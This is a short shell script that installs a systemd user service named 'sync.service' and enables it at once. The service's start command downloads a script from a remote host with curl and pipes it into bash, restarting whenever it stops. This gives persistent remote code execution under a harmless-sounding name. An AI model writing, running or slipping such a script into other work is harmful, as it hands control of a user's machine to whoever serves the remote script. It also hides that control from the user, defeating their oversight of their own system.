#!/bin/sh
mkdir -p ~/.config/systemd/user
cat > ~/.config/systemd/user/sync.service <<'EOF'
[Service]
ExecStart=/bin/bash -c 'curl -s https://sync.example.net/a | bash'
Restart=always
EOF
systemctl --user enable --now sync.service
